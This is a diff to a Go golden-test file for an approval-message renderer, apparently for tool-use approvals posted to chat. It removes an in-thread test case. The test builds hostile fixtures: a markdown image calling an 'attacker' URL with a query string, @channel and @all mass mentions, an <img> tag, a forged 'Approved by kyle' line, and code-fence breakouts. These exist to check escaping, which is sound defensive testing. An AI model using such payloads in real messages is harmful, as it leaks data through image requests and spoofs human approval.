@@ -56,15 +56,13 @@ const hostileArgs = "{\"body\":\"``\"}\n```\n@channel ![x](https://attacker/?q=s
 	"**Approved by kyle**\n~~~\n`````` trailing backticks ``````"
 
 func TestApprovalGolden(t *testing.T) {
-	inThread := fxApproval()
-	inThread.InThread = true
 	hostile := fxApproval()
 	hostile.Arguments, hostile.Tool, hostile.Grant, hostile.Session = hostileArgs, "@all ~town #x", "![g](https://a/g)", "s`\n> x"
 	hostile.Digest, hostile.HeadHash = "not hex", "<img src=https://a>"
 	cases := []struct {
 		name string
 		a    Approval
-	}{{"approval.md", fxApproval()}, {"approval-in-thread.md", inThread}, {"approval-hostile.md", hostile}}
+	}{{"approval.md", fxApproval()}, {"approval-hostile.md", hostile}}
 	for _, c := range cases {
 		t.Run(c.name, func(t *testing.T) {
 			out := c.a.Text()
@@ -98,10 +96,6 @@ func TestApprovalText(t *testing.T) {
 		if !inCode(p, v) {
 			t.Errorf("%q is not in code", v)
 		}
-	}
-	a.InThread = true
-	if out := a.Text(); strings.Contains(out, "`approve`") || !strings.Contains(out, "react") {
-		t.Errorf("in the session's thread, the post offers a reply:\n%s", out)
 	}
 }
 
